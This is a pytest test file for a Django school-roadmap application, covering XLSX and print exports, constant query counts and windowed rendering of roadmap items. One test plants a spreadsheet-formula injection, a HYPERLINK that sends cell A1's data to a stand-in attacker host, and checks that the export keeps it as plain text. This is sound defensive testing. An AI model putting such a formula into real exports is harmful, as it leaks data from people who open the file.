"""XLSX and print exports; the roadmap page in a constant number of queries."""

import re
from io import BytesIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from roadmaps.models import Evidence, ReviewComment

from .factories import RoadmapItemFactory

pytestmark = pytest.mark.django_db


def test_xlsx_export_has_one_row_per_item(rm, users, client_for):
    response = client_for(users.curator).get(reverse("roadmaps:export_xlsx", args=[rm.roadmap.pk]))
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    tasks = [row[1] for row in sheet.iter_rows(min_row=5, values_only=True)]
    assert tasks == ["Своя задача школы", "Совместная задача"]
    assert sheet.cell(row=4, column=2).value == "Задача"


def test_xlsx_export_keeps_a_typed_formula_as_text(rm, users, client_for):
    rm.own.task = '=HYPERLINK("https://evil.example/?"&A1,"Отчёт")'
    rm.own.save()
    response = client_for(users.curator).get(reverse("roadmaps:export_xlsx", args=[rm.roadmap.pk]))
    sheet = load_workbook(BytesIO(response.content)).active
    cell = next(row[1] for row in sheet.iter_rows(min_row=5) if row[1].value == rm.own.task)
    assert cell.data_type == "s"


def test_printable_page(rm, users, client_for):
    body = (
        client_for(users.curator)
        .get(reverse("roadmaps:print", args=[rm.roadmap.pk]))
        .content.decode()
    )
    assert "print.css" in body and "Своя задача школы" in body and "<script>" not in body


def _grow(roadmap, n, user):
    for i in range(n):
        item = RoadmapItemFactory(roadmap=roadmap, status=("planned", "done", "in_progress")[i % 3])
        Evidence.objects.create(item=item, kind="link", url="https://example.ru", added_by=user)
        ReviewComment.objects.create(roadmap=roadmap, item=item, author=user, text="Замечание")


@pytest.mark.parametrize("who", ["director", "curator"])
def test_roadmap_page_runs_a_constant_number_of_queries(
    rm, users, client_for, who, django_assert_num_queries
):
    client = client_for(getattr(users, who))
    url = reverse("roadmaps:detail", args=[rm.roadmap.pk])
    _grow(rm.roadmap, 3, users.director)
    client.get(url)  # warm the session and caches
    with CaptureQueriesContext(connection) as small:
        assert client.get(url).status_code == 200
    _grow(rm.roadmap, 40, users.director)
    with django_assert_num_queries(len(small.captured_queries)):
        response = client.get(url)
    assert response.content.decode().count('class="card mb-2 roadmap-item') == 45


#: Tables the roadmap page reads only when the roadmap has rows in them: flags read with the
#: roadmap say so (``selectors.roadmap_page_facts``, its sections' ``slots.facts``).
ONLY_WHEN_ANY = {
    "roadmaps_quarterrating",
    "roadmaps_historicalquarterrating",
    "roadmaps_engagementconcern",
    "knowledge_practiceadoption",
    "diagnostics_factorlevel",
    "events_event_roadmap_items",
}


def _main_table(sql: str) -> str:
    while re.search(r"\([^()]*\)", sql):  # subqueries (the flags' EXISTS) out, innermost first
        sql = re.sub(r"\([^()]*\)", "", sql)
    return re.search(r'FROM "(\w+)"', sql).group(1)


def test_roadmap_page_reads_ratings_concerns_events_and_practices_only_when_there_are_any(
    rm, users, client_for
):
    client = client_for(users.director)
    url = reverse("roadmaps:detail", args=[rm.roadmap.pk])
    client.get(url)
    with CaptureQueriesContext(connection) as read:
        assert client.get(url).status_code == 200
    tables = [_main_table(q["sql"]) for q in read.captured_queries]
    assert "roadmaps_roadmap" in tables and "roadmaps_roadmapitem" in tables
    assert not ONLY_WHEN_ANY & set(tables)


def test_list_and_overview_run_a_constant_number_of_queries(
    rm, users, client_for, django_assert_num_queries
):
    from .factories import RoadmapFactory

    client = client_for(users.methodologist)
    for url in (reverse("roadmaps:list"), reverse("roadmaps:overview")):
        client.get(url)
        with CaptureQueriesContext(connection) as small:
            client.get(url)
        for _ in range(5):
            _grow(RoadmapFactory(organisation=rm.roadmap.organisation), 3, users.director)
        with django_assert_num_queries(len(small.captured_queries)):
            client.get(url)


CARD = 'class="card mb-2 roadmap-item'


def test_a_long_roadmap_shows_its_items_in_windows(rm, users, client_for, settings):
    """Issue 17: the page renders at most ITEM_WINDOW cards whatever the roadmap's size; «Показать
    ещё» brings the next window (htmx) or a longer page (no JavaScript); a link to one item, a
    save without JavaScript and the print version reach items beyond the first window."""
    from roadmaps import selectors

    settings.SESSION_ENGINE = "django.contrib.sessions.backends.db"
    window = selectors.ITEM_WINDOW
    for _ in range(window + 12):
        RoadmapItemFactory(roadmap=rm.roadmap)
    total = window + 12 + 2  # the fixture's own two items
    client = client_for(users.director)
    url = reverse("roadmaps:detail", args=[rm.roadmap.pk])
    body = client.get(url).content.decode()
    assert body.count(CARD) == window
    assert f"Показать пункты {window + 1}–{total} из {total}" in body
    assert f'hx-get="?start={window}&amp;upto={total}"' in body

    more = client.get(f"{url}?start={window}&upto={total}", HTTP_HX_REQUEST="true")
    assert more.content.decode().count(CARD) == total - window
    assert "<html" not in more.content.decode() and "Показать пункты" not in more.content.decode()

    assert client.get(f"{url}?upto={total}").content.decode().count(CARD) == total

    last = rm.roadmap.items.order_by("-pk").first()
    at_last = client.get(f"{url}?item={last.pk}").content.decode()
    assert f'id="item-{last.pk}"' in at_last
    assert f'id="item-{last.pk}"' not in body

    printed = client.get(reverse("roadmaps:print", args=[rm.roadmap.pk])).content.decode()
    assert last.task in printed

    # A save without JavaScript comes back to «…/#item-N»: the item is on the page.
    saved = client.post(
        reverse("roadmaps:item_quick", args=[last.pk]),
        {"status": "in_progress", "actual": "", "version": last.version},
    )
    assert saved.status_code == 302 and saved["Location"].endswith(f"#item-{last.pk}")
    assert f'id="item-{last.pk}"' in client.get(saved["Location"]).content.decode()
    assert f'id="item-{last.pk}"' not in client.get(url).content.decode()  # only once
